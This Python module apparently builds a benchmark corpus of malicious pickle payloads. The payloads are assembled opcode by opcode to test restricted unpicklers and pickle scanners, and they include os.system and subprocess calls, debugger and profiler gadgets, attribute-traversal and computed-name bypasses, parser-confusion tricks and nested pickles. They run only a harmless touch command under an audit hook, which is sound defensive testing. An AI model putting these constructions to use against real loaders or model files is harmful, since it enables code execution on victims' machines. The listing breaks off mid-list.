"""An attack corpus for restricted loading and pickle scanners, and benign data.

    from security_corpus import attacks, benign    # benchmarks/ on sys.path

Every attack payload is generated here, opcode by opcode (the small assembler
below) or by ``cloudpickle`` for the by-value class, from attack classes that
are publicly documented; no published sample is copied. What we followed:

- the ``pickle`` module documentation's warning and ``pickletools`` (opcode
  semantics: STACK_GLOBAL, dotted names under protocol 4, FRAME, EXT, MEMOIZE);
- picklescan's and fickling's documentation and issue trackers (the globals
  they list as dangerous, and reported bypasses: names computed at load time,
  several pickles in one file, a parse error right after the malicious call,
  Python 2 module names, nested ``pickle.loads``);
- modelscan's documentation of unsafe globals (``runpy``, ``pty``,
  ``webbrowser``, ``shutil``, ``socket``, network clients, ``ctypes``);
- public write-ups on restricted unpicklers (``find_class`` allow-lists)
  bypassed through attribute traversal of an allowed module (``datetime.sys``, ``uuid.sys``,
  a module's ``__builtins__``), BUILD on an allowed class or module,
  ``operator.attrgetter``/``methodcaller``/``functools.partial`` chains and
  ``pkgutil.resolve_name``/``pydoc.locate``, gadgets such as ``cProfile.run``,
  ``timeit.timeit``, ``pdb.run``, ``doctest.debug_script``,
  ``numpy.testing._private.utils.runstring`` and ``numpy.load(allow_pickle=True)``;
- CPython's audit events table (``sys.addaudithook``), which names the effect
  each sample declares.

Each :class:`Sample` declares the effect that loading it unrestricted has: an
audit event (``os.system``, ``subprocess.Popen``, ``compile``, ``exec``,
``socket.connect``, ``ctypes.dlopen``, ...), ``open:w`` (a file opened for
writing), ``import:NAME`` (a module not imported before), or a change of state:
``sys.path``, ``sys.modules``, ``builtins``, ``copyreg``, ``class:NAME`` (an
allowed class), ``module:NAME`` (an allowed module). ``security_harness`` checks
each declaration against a real unrestricted load, under an audit hook that
stops the effect.

Benign samples (category ``benign``) hold plain data that ``DATA_ONLY`` covers,
under protocols 2 to 5, with ``value`` the object they hold.
"""

from __future__ import annotations

import collections
import datetime
import decimal
import fractions
import marshal
import math
import os
import pathlib
import pickle
import struct
import sys
import uuid
import zoneinfo
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

from security_harness import REFUSED

__all__ = ["CATEGORIES", "Sample", "attacks", "benign", "same"]

# The command the code runners would run, and a file the writers would create.
# The harness stops every one of them before it happens.
COMMAND = "touch /tmp/graphpickle-attack-ran"
TARGET = "/tmp/graphpickle-attack-file"
# A file the "state that lies" samples make an allowed class read.
READ_TARGET = "/tmp/graphpickle-attack-read"
# A module that nothing imports before the payload does (the harness checks).
FRESH_MODULE = "tabnanny"
LOOPBACK = "127.0.0.1"
# An innocent-looking module whose attribute ``os`` is the os module (3.13's
# pathlib, a package, no longer has one).
OS_IMPORTER = "pathlib" if hasattr(pathlib, "os") else "uuid"

CATEGORIES = (
    "direct code runners",
    "less known gadgets",
    "traversal",
    "state changes",
    "state that lies",
    "computed names",
    "parser confusion",
    "nested pickles",
    "by-value code",
    "benign",
)


@dataclass(frozen=True)
class Sample:
    name: str
    category: str
    data: bytes
    effect: str  # "" for benign samples; REFUSED: even plain pickle refuses it
    multi: bool = False  # several pickles in the bytes: a load loop reads them all
    value: Any = None  # benign samples: the object the payload holds


# --- a tiny assembler: expressions to opcodes ------------------------------


@dataclass(frozen=True)
class G:
    """A global; ``text`` writes protocol 0's GLOBAL opcode instead of STACK_GLOBAL."""

    module: str
    name: str
    text: bool = False


class Call:
    """``func(*args)``: REDUCE."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args


@dataclass(frozen=True)
class Build:
    """BUILD ``state`` into ``target``."""

    target: Any
    state: Any


@dataclass(frozen=True)
class Raw:
    """Opcodes written as they are (they push one value)."""

    ops: bytes


def _text(s: str) -> bytes:
    raw = s.encode("utf-8", "surrogatepass")
    if len(raw) < 256:
        return pickle.SHORT_BINUNICODE + bytes([len(raw)]) + raw
    return pickle.BINUNICODE + struct.pack("<I", len(raw)) + raw


def _int(i: int) -> bytes:
    if 0 <= i < 256:
        return pickle.BININT1 + bytes([i])
    if -(2**31) <= i < 2**31:
        return pickle.BININT + struct.pack("<i", i)
    raw = pickle.encode_long(i)
    return pickle.LONG1 + bytes([len(raw)]) + raw


def ops(x: Any) -> bytes:
    """The opcodes that push ``x`` (protocols 3 and up)."""
    if isinstance(x, Raw):
        return x.ops
    if isinstance(x, G):
        if x.text:
            return pickle.GLOBAL + f"{x.module}\n{x.name}\n".encode()
        return _text(x.module) + _text(x.name) + pickle.STACK_GLOBAL
    if isinstance(x, Call):
        return ops(x.func) + ops(tuple(x.args)) + pickle.REDUCE
    if isinstance(x, Build):
        return ops(x.target) + ops(x.state) + pickle.BUILD
    if x is None:
        return pickle.NONE
    if isinstance(x, bool):
        return pickle.NEWTRUE if x else pickle.NEWFALSE
    if isinstance(x, int):
        return _int(x)
    if isinstance(x, float):
        return pickle.BINFLOAT + struct.pack(">d", x)
    if isinstance(x, str):
        return _text(x)
    if isinstance(x, bytes):
        if len(x) < 256:
            return pickle.SHORT_BINBYTES + bytes([len(x)]) + x
        return pickle.BINBYTES + struct.pack("<I", len(x)) + x
    if isinstance(x, tuple):
        if not x:
            return pickle.EMPTY_TUPLE
        body = b"".join(ops(item) for item in x)
        if len(x) <= 3:
            return body + (pickle.TUPLE1, pickle.TUPLE2, pickle.TUPLE3)[len(x) - 1]
        return pickle.MARK + body + pickle.TUPLE
    if isinstance(x, list):
        body = b"".join(ops(item) for item in x)
        return pickle.EMPTY_LIST + (pickle.MARK + body + pickle.APPENDS if x else b"")
    if isinstance(x, dict):
        body = b"".join(ops(k) + ops(v) for k, v in x.items())
        return pickle.EMPTY_DICT + (pickle.MARK + body + pickle.SETITEMS if x else b"")
    raise TypeError(f"the assembler has no opcodes for {type(x).__name__}")


def program(*parts: Any, proto: int = 4) -> bytes:
    """PROTO, each part (an expression, or raw opcodes), STOP."""
    body = b"".join(p if isinstance(p, bytes) else ops(p) for p in parts)
    return pickle.PROTO + bytes([proto]) + body + pickle.STOP


def methodcall(obj: Any, method: str, *args: Any) -> Call:
    """``obj.method(*args)`` through ``operator.methodcaller``."""
    return Call(Call(G("operator", "methodcaller"), method, *args), obj)


def _system(cmd: str = COMMAND) -> Call:
    return Call(G("os", "system"), cmd)


def _sh(cmd: str = COMMAND) -> list[str]:
    return ["sh", "-c", cmd]


def _source(cmd: str = COMMAND) -> str:
    return f"__import__('os').system({cmd!r})"


# --- attacks -----------------------------------------------------------------


def attacks() -> list[Sample]:
    return [
        *_direct(),
        *_gadgets(),
        *_traversal(),
        *_state_changes(),
        *_lying_state(),
        *_computed(),
        *_parser_confusion(),
        *_nested(),
        *_by_value(),
    ]


def _samples(category: str, rows: list[tuple[str, bytes, str]]) -> Iterator[Sample]:
    for name, data, effect in rows:
        yield Sample(name, category, data, effect)


def _direct() -> Iterator[Sample]:
    rows = [
        ("os.system", program(_system()), "os.system"),
        (
            "posix.system, protocol 0 GLOBAL",
            program(Call(G("posix", "system", True), COMMAND), proto=2),
            "os.system",
        ),
        ("os.popen", program(Call(G("os", "popen"), COMMAND)), "subprocess.Popen"),
        ("os.execv", program(Call(G("os", "execv"), "/bin/sh", _sh())), "os.exec"),
        ("os.execlp", program(Call(G("os", "execlp"), "sh", *_sh())), "os.exec"),
        ("os.spawnv", program(Call(G("os", "spawnv"), os.P_WAIT, "/bin/sh", _sh())), "os.fork"),
        ("os.spawnlp", program(Call(G("os", "spawnlp"), os.P_NOWAIT, "sh", *_sh())), "os.fork"),
        (
            "os.posix_spawn",
            program(Call(G("os", "posix_spawn"), "/bin/sh", _sh(), {})),
            "os.posix_spawn",
        ),
        (
            "posix.posix_spawnp",
            program(Call(G("posix", "posix_spawnp"), "sh", _sh(), {})),
            "os.posix_spawn",
        ),
        ("subprocess.Popen", program(Call(G("subprocess", "Popen"), _sh())), "subprocess.Popen"),
        ("subprocess.run", program(Call(G("subprocess", "run"), _sh())), "subprocess.Popen"),
        (
            "subprocess.check_output",
            program(Call(G("subprocess", "check_output"), _sh())),
            "subprocess.Popen",
        ),
        (
            "subprocess.getoutput",
            program(Call(G("subprocess", "getoutput"), COMMAND)),
            "subprocess.Popen",
        ),
        ("builtins.eval", program(Call(G("builtins", "eval"), _source())), "compile"),
        ("builtins.exec", program(Call(G("builtins", "exec"), _source())), "compile"),
        (
            "builtins.exec of builtins.compile",
            program(
                Call(
                    G("builtins", "exec"),
                    Call(G("builtins", "compile"), _source(), "<attack>", "exec"),
                )
            ),
            "compile",
        ),
        (
            "builtins.__import__",
            program(Call(G("builtins", "__import__"), FRESH_MODULE)),
            f"import:{FRESH_MODULE}",
        ),
        ("builtins.open for writing", program(Call(G("builtins", "open"), TARGET, "w")), "open:w"),
        ("runpy.run_module", program(Call(G("runpy", "run_module"), FRESH_MODULE)), "exec"),
        ("runpy._run_code", program(Call(G("runpy", "_run_code"), _source(), {})), "compile"),
        ("pty.spawn", program(Call(G("pty", "spawn"), _sh())), "os.forkpty"),
    ]
    yield from _samples("direct code runners", rows)


def _code_args(source: str) -> tuple[Any, ...]:
    """``types.CodeType``'s arguments for ``source``, in this Python's order."""
    code = compile(source, "<attack>", "exec")
    fields = [
        "co_argcount", "co_posonlyargcount", "co_kwonlyargcount", "co_nlocals",
        "co_stacksize", "co_flags", "co_code", "co_consts", "co_names", "co_varnames",
        "co_filename", "co_name", "co_qualname", "co_firstlineno", "co_linetable",
        "co_exceptiontable", "co_freevars", "co_cellvars",
    ]  # fmt: skip
    return tuple(getattr(code, f) for f in fields)


def _fork_exec_args() -> tuple[Any, ...]:
    """``_posixsubprocess.fork_exec``'s 23 arguments (3.11 to 3.13): run sh -c."""
    sh = [b"/bin/sh", b"-c", COMMAND.encode()]
    return (sh, [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1, -1, -1,
            True, False, 0, None, None, None, -1, None, False)  # fmt: skip


def _gadgets() -> Iterator[Sample]:
    inner = program(_system())
    bytes_io = Call(G("_io", "BytesIO"), inner)
    os_module = Call(G("builtins", "__import__"), "os")
    rows = [
        # 3.12's cProfile compiles the statement before it turns profiling on
        (
            "cProfile.run",
            program(Call(G("cProfile", "run"), _source())),
            "sys.setprofile" if sys.version_info < (3, 12) else "compile",
        ),
        ("profile.run", program(Call(G("profile", "run"), _source())), "sys.setprofile"),
        (
            "timeit.timeit",
            program(Call(G("timeit", "timeit"), _source(), "pass", None, 1)),
            "compile",
        ),
        (
            "pydoc.pipepager",
            program(Call(G("pydoc", "pipepager"), "text", COMMAND)),
            "subprocess.Popen",
        ),
        (
            "pydoc.locate then call",
            program(Call(Call(G("pydoc", "locate"), "os.system"), COMMAND)),
            "os.system",
        ),
        (
            "pkgutil.resolve_name then call",
            program(Call(Call(G("pkgutil", "resolve_name"), "os:system"), COMMAND)),
            "os.system",
        ),
        (
            "importlib.import_module",
            program(Call(G("importlib", "import_module"), FRESH_MODULE)),
            f"import:{FRESH_MODULE}",
        ),
        ("doctest.debug_script", program(Call(G("doctest", "debug_script"), _source())), "compile"),
        ("pdb.run", program(Call(G("pdb", "run"), _source())), "compile"),
        ("bdb.Bdb().run", program(methodcall(Call(G("bdb", "Bdb")), "run", _source())), "compile"),
        (
            "trace.Trace().run",
            program(methodcall(Call(G("trace", "Trace")), "run", _source())),
            "sys.settrace",
        ),
        (
            "code.InteractiveInterpreter().runsource",
            program(methodcall(Call(G("code", "InteractiveInterpreter")), "runsource", _source())),
            "compile",
        ),
        (
            "types.CodeType + types.FunctionType",
            program(
                Call(
                    Call(
                        G("types", "FunctionType"),
                        Call(G("types", "CodeType"), *_code_args(_source())),
                        {},
                    )
                )
            ),
            "os.system",
        ),
        (
            "marshal.loads + types.FunctionType",
            program(
                Call(
                    Call(
                        G("types", "FunctionType"),
                        Call(
                            G("marshal", "loads"),
                            marshal.dumps(compile(_source(), "<attack>", "exec")),
                        ),
                        {},
                    )
                )
            ),
            "os.system",
        ),
        ("io.open for writing", program(Call(G("io", "open"), TARGET, "w")), "open:w"),
        ("_io.FileIO for writing", program(Call(G("_io", "FileIO"), TARGET, "w")), "open:w"),
        ("codecs.open for writing", program(Call(G("codecs", "open"), TARGET, "w")), "open:w"),
        ("shutil.rmtree", program(Call(G("shutil", "rmtree"), TARGET)), "shutil.rmtree"),
        (
            "shutil.copyfile",
            program(Call(G("shutil", "copyfile"), "/etc/hostname", TARGET)),
            "shutil.copyfile",
        ),
        # tempfile first writes a probe file in the temporary directory
        ("tempfile.mkdtemp", program(Call(G("tempfile", "mkdtemp"))), "open:w"),
        (
            "tempfile.NamedTemporaryFile",
            program(Call(G("tempfile", "NamedTemporaryFile"))),
            "open:w",
        ),
        (
            "socket.create_connection",
            program(Call(G("socket", "create_connection"), (LOOPBACK, 9))),
            "socket.getaddrinfo",
        ),
        (
            "socket.socket().connect",
            program(methodcall(Call(G("socket", "socket")), "connect", (LOOPBACK, 9))),
            "socket.connect",
        ),
        (
            "urllib.request.urlopen",
            program(Call(G("urllib.request", "urlopen"), f"http://{LOOPBACK}:9/")),
            "urllib.Request",
        ),
        (
            "http.client.HTTPConnection().connect",
            program(methodcall(Call(G("http.client", "HTTPConnection"), LOOPBACK, 9), "connect")),
            "http.client.connect",
        ),
        ("smtplib.SMTP", program(Call(G("smtplib", "SMTP"), LOOPBACK, 9)), "smtplib.connect"),
        ("ftplib.FTP", program(Call(G("ftplib", "FTP"), LOOPBACK)), "ftplib.connect"),
        # With no browser installed, importing webbrowser (its registration code) is all it does.
        (
            "webbrowser.open",
            program(Call(G("webbrowser", "open"), f"http://{LOOPBACK}:9/")),
            "import:webbrowser",
        ),
        ("ctypes.CDLL", program(Call(G("ctypes", "CDLL"), "libc.so.6")), "ctypes.dlopen"),
        (
            "_posixsubprocess.fork_exec",
            program(Call(G("_posixsubprocess", "fork_exec"), *_fork_exec_args())),
            "_posixsubprocess.fork_exec",
        ),
        (
            "asyncio.run(create_subprocess_shell)",
            program(
                Call(G("asyncio", "run"), Call(G("asyncio", "create_subprocess_shell"), COMMAND))
            ),
            "subprocess.Popen",
        ),
        (
            "multiprocessing.Process(target=os.system).start",
            program(
                methodcall(
                    Call(
                        G("multiprocessing", "Process"), None, G("os", "system"), None, (COMMAND,)
                    ),
                    "start",
                )
            ),
            # Linux's default start method: fork, then forkserver from 3.14
            # (whose first act is to write its socket's file).
            "open:w" if sys.version_info >= (3, 14) else "os.fork",
        ),
        (
            "numpy.testing._private.utils.runstring",
            program(Call(G("numpy.testing._private.utils", "runstring"), _source(), {})),
            "compile",
        ),
        (
            "numpy.load(allow_pickle=True)",
            program(Call(G("numpy", "load"), bytes_io, None, True)),
            "os.system",
        ),
        ("pandas.read_pickle", program(Call(G("pandas", "read_pickle"), bytes_io)), "os.system"),
        (
            "operator.attrgetter on __import__('os')",
            program(Call(Call(Call(G("operator", "attrgetter"), "system"), os_module), COMMAND)),
            "os.system",
        ),
        (
            "operator.methodcaller on __import__('os')",
            program(methodcall(os_module, "system", COMMAND)),
            "os.system",
        ),
        (
            "functools.partial(os.system)",
            program(Call(Call(G("functools", "partial"), G("os", "system"), COMMAND))),
            "os.system",
        ),
        (
            "functools.partial(builtins.getattr) chain",
            program(
                Call(
                    Call(
                        Call(G("functools", "partial"), G("builtins", "getattr"), os_module),
                        "system",
                    ),
                    COMMAND,
                )
            ),
            "os.system",
        ),
        (
            "builtins.getattr on importlib.import_module('os')",
            program(
                Call(
                    Call(
                        G("builtins", "getattr"),
                        Call(G("importlib", "import_module"), "os"),
                        "system",
                    ),
                    COMMAND,
                )
            ),
            "os.system",
        ),
    ]
    yield from _samples("less known gadgets", rows)


def _traversal() -> Iterator[Sample]:
    eval_src = Call(G("numpy", "__builtins__.get"), "eval")
    rows = [
        (
            f"{OS_IMPORTER} + os.system (protocol 4 dotted)",
            program(Call(G(OS_IMPORTER, "os.system"), COMMAND)),
            "os.system",
        ),
        (
            "builtins + eval.__call__",
            program(Call(G("builtins", "eval.__call__"), _source())),
            "compile",
        ),
        ("numpy + __builtins__.get('eval')", program(Call(eval_src, _source())), "compile"),
        (
            "collections + __builtins__.get('exec')",
            program(Call(Call(G("collections", "__builtins__.get"), "exec"), _source())),
            "compile",
        ),
        (
            "uuid + sys.modules.__setitem__",
            program(Call(G("uuid", "sys.modules.__setitem__"), "os", G("builtins", "int"))),
            "sys.modules",
        ),
        (
            "uuid + sys.settrace",
            program(Call(G("uuid", "sys.settrace"), G("builtins", "int"))),
            "sys.settrace",
        ),
        (
            "uuid + sys.addaudithook",
            program(Call(G("uuid", "sys.addaudithook"), G("builtins", "int"))),
            "sys.addaudithook",
        ),
        (
            "pandas offsets module + np.testing runstring",
            program(
                Call(
                    G("pandas._libs.tslibs.offsets", "np.testing._private.utils.runstring"),
                    _source(),
                    {},
                )
            ),
            "compile",
        ),
        (
            "GLOBAL under PROTO 4: builtins eval.__call__",
            program(Call(G("builtins", "eval.__call__", True), _source())),
            "compile",
        ),
        (
            f"GLOBAL under PROTO 4: {OS_IMPORTER} os.system",
            program(Call(G(OS_IMPORTER, "os.system", True), COMMAND)),
            "os.system",
        ),
    ]
    yield from _samples("traversal", rows)


def _computed_global(module: Any, name: Any) -> Raw:
    """STACK_GLOBAL whose module and name are whatever the expressions push."""
    return Raw(ops(module) + ops(name) + pickle.STACK_GLOBAL)


def _op_then(target: Any, opcodes: bytes) -> Raw:
    return Raw(ops(target) + opcodes)


def _lying_state() -> Iterator[Sample]:
    """Allowed names only: an earlier BUILD plants a callable in an instance's
    dict (or its slot state), and the next BUILD calls it with the payload's
    data, past the checks a call gets. The callable here is pandas'
    DatetimeTZDtype, which opens the file a ``dateutil/`` zone names (a call of
    it with that string is refused; through the planted method it was not).
    (The C unpickler's APPEND(S) call the type's ``extend`` of a UserList, so
    the same plant there shows no effect with plain pickle: tested in
    tests/test_restricted_calls.py instead.)"""
    user_list = G("collections", "UserList")
    zone = G("pandas", "DatetimeTZDtype")
    dtype = f"datetime64[ns, dateutil/{READ_TARGET}]"
    planted = Build(Call(user_list), {"__setstate__": zone})
    rows = [
        (
            "__setstate__ planted by a first BUILD, called by a second",
            program(Build(planted, dtype)),
            "open:r",
        ),
        (
            "__setstate__ planted through slot state, called by a second BUILD",
            program(Build(Build(Call(user_list), (None, {"__setstate__": zone})), dtype)),
            "open:r",
        ),
        ("the same call, made directly (refused as a call)", program(Call(zone, dtype)), "open:r"),
    ]
    yield from _samples("state that lies", rows)


def _state_changes() -> Iterator[Sample]:
    attacker_path = "/tmp/graphpickle-attacker-path"
    integer = G("builtins", "int")
    rows = [
        (
            "BUILD dict state on uuid.sys: sys.path",
            program(Build(G("uuid", "sys"), {"path": [attacker_path]})),
            "sys.path",
        ),
        (
            "BUILD slot state on uuid.sys: sys.path",
            program(Build(G("uuid", "sys"), (None, {"path": [attacker_path]}))),
            "sys.path",
        ),
        (
            "BUILD slot state on a class: fractions.Fraction.__len__ = int",
            program(Build(G("fractions", "Fraction"), (None, {"__len__": integer}))),
            "class:fractions.Fraction",
        ),
        (
            "__setstate__ planted on fractions.Fraction, then BUILD on an instance",
            program(
                Build(G("fractions", "Fraction"), (None, {"__setstate__": integer})),
                pickle.POP,
                Build(Call(G("fractions", "Fraction"), 1, 3), 7),
            ),
            "class:fractions.Fraction",
        ),
        (
            "SETITEM on datetime.__builtins__: builtins.__import__ = int",
            program(
                _op_then(
                    G("datetime", "__builtins__"), ops("__import__") + ops(integer) + pickle.SETITEM
                )
            ),
            "builtins",
        ),
        (
            "SETITEMS on pandas.arrays.__builtins__: builtins.open = int",
            program(
                _op_then(
                    G("pandas.arrays", "__builtins__"),
                    pickle.MARK + ops("open") + ops(integer) + pickle.SETITEMS,
                )
            ),
            "builtins",
        ),
        (
            "SETITEM on datetime.__dict__ (a module dict)",
            program(
                _op_then(
                    G("datetime", "__dict__"), ops("timedelta") + ops(integer) + pickle.SETITEM
                )
            ),
            "module:datetime",
        ),
        (
            "APPENDS to sys.path (uuid + sys.path)",
            program(
                _op_then(G("uuid", "sys.path"), pickle.MARK + ops(attacker_path) + pickle.APPENDS)
            ),
            "sys.path",
        ),
        (
            "APPEND to sys.path (uuid + sys.path)",
            program(_op_then(G("uuid", "sys.path"), ops(attacker_path) + pickle.APPEND)),
            "sys.path",
        ),
        (
            "SETITEMS on sys.modules (uuid + sys.modules)",
            program(
                _op_then(
                    G("uuid", "sys.modules"),
                    pickle.MARK + ops("os") + ops(integer) + pickle.SETITEMS,
                )
            ),
            "sys.modules",
        ),
        (
            "SETITEM on a pandas module global (offsets.prefix_mapping)",
            program(
                _op_then(
                    G("pandas._libs.tslibs.offsets", "prefix_mapping"),
                    ops("D") + ops(integer) + pickle.SETITEM,
                )
            ),
            "module:pandas._libs.tslibs.offsets",
        ),
        (
            "ADDITEMS to a pandas module set (offsets._dont_uppercase)",
            program(
                _op_then(
                    G("pandas._libs.tslibs.offsets", "_dont_uppercase"),
                    pickle.MARK + ops("graphpickle-attack") + pickle.ADDITEMS,
                )
            ),
            "module:pandas._libs.tslibs.offsets",
        ),
        (
            "BUILD on numpy, reached as pandas offsets' np",
            program(Build(G("pandas._libs.tslibs.offsets", "np"), {"ndarray": integer})),
            "module:numpy",
        ),
    ]
    if getattr(datetime, "sys", None) is sys:  # Python 3.11's datetime.py imports sys
        rows.append(
            (
                "BUILD dict state on datetime.sys: sys.path",
                program(Build(G("datetime", "sys"), {"path": [attacker_path]})),
                "sys.path",
            )
        )
    yield from _samples("state changes", rows)


def _computed() -> Iterator[Sample]:
    def text(raw: bytes) -> Call:  # str(b"...", "ascii") at load time
        return Call(G("builtins", "str"), raw, "ascii")

    def rot13(clear: str) -> Call:
        import codecs

        return Call(G("_codecs", "encode"), codecs.encode(clear, "rot13"), "rot13")

    memo_overwrite = (
        ops("collections") + pickle.BINPUT + b"\x00" + pickle.POP
        + ops("os") + pickle.BINPUT + b"\x00" + pickle.POP
        + pickle.BINGET + b"\x00" + ops("system") + pickle.STACK_GLOBAL
    )  # fmt: skip
    memoize_index = (
        ops("collections") + pickle.BINPUT + b"\x03" + pickle.POP
        + ops("posix") + pickle.MEMOIZE + pickle.POP
        + pickle.BINGET + b"\x01" + ops("system") + pickle.STACK_GLOBAL
    )  # fmt: skip
    rows = [
        (
            "module from str(bytes) at load time",
            program(Call(_computed_global(text(b"os"), "system"), COMMAND)),
            "os.system",
        ),
        (
            "name from str(bytes) at load time",
            program(Call(_computed_global("posix", text(b"system")), COMMAND)),
            "os.system",
        ),
        (
            "module and name from _codecs rot13",
            program(Call(_computed_global(rot13("os"), rot13("system")), COMMAND)),
            "os.system",
        ),
        (
            "module from copyreg._reconstructor(str, str, ...)",
            program(
                Call(
                    _computed_global(
                        Call(
                            G("copyreg", "_reconstructor"),
                            G("builtins", "str"),
                            G("builtins", "str"),
                            "posix",
                        ),
                        "system",
                    ),
                    COMMAND,
                )
            ),
            "os.system",
        ),
        (
            "builtins.eval name from str(bytes)",
            program(Call(_computed_global("builtins", text(b"eval")), _source())),
            "compile",
        ),
        (
            "memo slot overwritten before STACK_GLOBAL",
            program(Call(Raw(memo_overwrite), COMMAND)),
            "os.system",
        ),
        (
            "MEMOIZE index after a high BINPUT",
            program(Call(Raw(memoize_index), COMMAND)),
            "os.system",
        ),
    ]
    yield from _samples("computed names", rows)


def _frame(length: int) -> bytes:
    return pickle.FRAME + struct.pack("<Q", length)


def _parser_confusion() -> Iterator[Sample]:
    call = ops(_system())
    benign_first = pickle.dumps({"weights": [1.0, 2.0]}, protocol=4)
    ext_rows = []
    for opcode, code, packed in (
        ("EXT1", 0xF1, pickle.EXT1 + bytes([0xF1])),
        ("EXT2", 0x1F01, pickle.EXT2 + struct.pack("<H", 0x1F01)),
        ("EXT4", 0x1F0001, pickle.EXT4 + struct.pack("<i", 0x1F0001)),
    ):
        register = ops(Call(G("copyreg", "add_extension"), "os", "system", code)) + pickle.POP
        ext_rows.append(
            (
                f"{opcode} after copyreg.add_extension",
                program(Raw(register + packed + ops((COMMAND,)) + pickle.REDUCE)),
                "os.system",
            )
        )
    escaped = b"V\\u006fs\nV\\u0073ystem\n"  # raw-unicode-escape: "os", "system"
    binunicode8 = b"".join(
        pickle.BINUNICODE8 + struct.pack("<Q", len(s)) + s for s in (b"os", b"system")
    )
    rows = [
        *ext_rows,
        (
            "FRAME length shorter than its opcodes",
            pickle.PROTO + b"\x04" + _frame(3) + call + pickle.STOP,
            # From 3.14 the C unpickler refuses such a frame itself.
            REFUSED if sys.version_info >= (3, 14) else "os.system",
        ),
        (
            "FRAME length ending inside an opcode",
            pickle.PROTO + b"\x04" + _frame(len(call) - 2) + call + pickle.STOP,
            "os.system",
        ),
        (
            "broken opcode right after the REDUCE",
            pickle.PROTO + b"\x04" + call + b"\xff",
            "os.system",
        ),
        ("no STOP after the REDUCE", pickle.PROTO + b"\x04" + call, "os.system"),
        (
            "lone surrogate in a string before the call",
            program(Raw(ops("\ud800") + pickle.POP), _system()),
            "os.system",
        ),
        ("lone surrogate in the command", program(_system(COMMAND + " \udcff")), "os.system"),
        ("protocol 0 INST", b"(S'" + COMMAND.encode() + b"'\nios\nsystem\n.", "os.system"),
        (
            "protocol 1 OBJ",
            b"(cos\nsystem\nX" + struct.pack("<I", len(COMMAND)) + COMMAND.encode() + b"o.",
            "os.system",
        ),
        (
            "protocol 0 GLOBAL with a Python 2 name: __builtin__ eval",
            program(Call(G("__builtin__", "eval", True), _source()), proto=2),
            "compile",
        ),
        (
            "escaped names in protocol 0 UNICODE opcodes",
            program(Raw(escaped + pickle.STACK_GLOBAL + ops((COMMAND,)) + pickle.REDUCE)),
            "os.system",
        ),
        (
            "names in BINUNICODE8 opcodes",
            program(Raw(binunicode8 + pickle.STACK_GLOBAL + ops((COMMAND,)) + pickle.REDUCE)),
            "os.system",
        ),
        (
            "non-ASCII text around the call",
            program(Raw(ops("модуль: os") + pickle.POP), _system(COMMAND + " # données")),
            "os.system",
        ),
        ("trailing garbage after STOP", program(_system()) + b"\x00garbage\xff" * 4, "os.system"),
        (  # no protocol header: the bytes read as "not a pickle", the attack runs first
            "a protocol 0 attack followed by text",
            b"cos\nsystem\n(V" + COMMAND.encode() + b"\ntR." + b"this is not a pickle\n",
            "os.system",
        ),
    ]
    yield from _samples("parser confusion", rows)
    multi = [
        ("a benign pickle, then the attack", benign_first + program(_system())),
        (
            "two benign pickles, then the attack",
            benign_first + pickle.dumps([1, 2], 2) + program(_system()),
        ),
        (
            "a benign pickle, then the attack with a broken tail",
            benign_first + pickle.PROTO + b"\x04" + call + b"\xff",
        ),
    ]
    for name, data in multi:
        yield Sample(name, "parser confusion", data, "os.system", multi=True)


def _nested() -> Iterator[Sample]:
    import base64

    inner = program(_system())
    bytes_io = Call(G("_io", "BytesIO"), inner)
    rows = [
        (
            "pickle.loads of an inner payload",
            program(Call(G("pickle", "loads"), inner)),
            "os.system",
        ),
        (
            "_pickle.loads of an inner payload",
            program(Call(G("_pickle", "loads"), inner)),
            "os.system",
        ),
        (
            "pickle._loads (pure Python) of an inner payload",
            program(Call(G("pickle", "_loads"), inner)),
            "os.system",
        ),
        (
            "pickle.Unpickler(BytesIO).load()",
            program(methodcall(Call(G("pickle", "Unpickler"), bytes_io), "load")),
            "os.system",
        ),
        (
            "_pickle.Unpickler(BytesIO).load()",
            program(methodcall(Call(G("_pickle", "Unpickler"), bytes_io), "load")),
            "os.system",
        ),
        (
            "pickle.loads of a base64 inner payload (_codecs.decode)",
            program(
                Call(
                    G("pickle", "loads"),
                    Call(G("_codecs", "decode"), base64.b64encode(inner), "base64"),
                )
            ),
            "os.system",
        ),
        (
            "pickle.loads nested twice",
            program(Call(G("pickle", "loads"), program(Call(G("pickle", "loads"), inner)))),
            "os.system",
        ),
    ]
    yield from _samples("nested pickles", rows)


class _CallsOnLoad:
    """Pickles as ``func()``: loading calls ``func``."""

    def __init__(self, func: Callable[[], object]) -> None:
        self.func = func

    def __reduce__(self) -> tuple[Callable[[], object], tuple[()]]:
        return self.func, ()


def _by_value() -> Iterator[Sample]:
    import cloudpickle

    import graphpickle

    def make_runners() -> tuple[Callable[[], object], Callable[[], object]]:
        # Local functions: cloudpickle (and graphpickle through it) writes them by value.
        def run_shell() -> object:
            return os.system(COMMAND)

        def run_subprocess() -> object:
            import subprocess

            return subprocess.run(_sh())

        return run_shell, run_subprocess

    run_shell, run_subprocess = make_runners()
    rows = [
        (
            "cloudpickle function called by REDUCE: os.system",
            cloudpickle.dumps(_CallsOnLoad(run_shell)),
            "os.system",
        ),
        (
            "cloudpickle function called by REDUCE: subprocess.run",
            cloudpickle.dumps(_CallsOnLoad(run_subprocess)),
            "subprocess.Popen",
        ),
        (
            "cloudpickle lambda called by REDUCE, protocol 2",
            cloudpickle.dumps(_CallsOnLoad(lambda: os.system(COMMAND)), protocol=2),
            "os.system",
        ),
        (
            "graphpickle.dumps of a local function called by REDUCE",
            graphpickle.dumps(_CallsOnLoad(run_shell)),
            "os.system",
        ),
    ]
    yield from _samples("by-value code", rows)


# --- benign data ---------------------------------------------------------------


def _benign_values() -> list[tuple[str, Any, tuple[int, ...]]]:
    """(name, value, protocols) for plain data that DATA_ONLY covers."""
    import numpy as np
    import pandas as pd

    paris = zoneinfo.ZoneInfo("Europe/Paris")
    structured = np.dtype([("id", "<i4"), ("pos", "<f8", (2,)), ("tag", "S3")])
    frame = pd.DataFrame(
        {
            "int64": pd.array([1, None, 3], dtype="Int64"),
            "boolean": pd.array([True, None, False], dtype="boolean"),
            "string": pd.array(["a", None, "c"], dtype="string[python]"),
            "category": pd.Categorical(["x", "y", "x"]),
            "period": pd.period_range("2026-01", periods=3, freq="M"),
            "interval": pd.interval_range(0, 3),
            "tz": pd.date_range("2026-01-01", periods=3, tz="Europe/Paris"),
            "float": [0.5, np.nan, 2.5],
        },
        index=pd.Index(["r1", "r2", "r3"], name="row"),
    )
    return [
        (
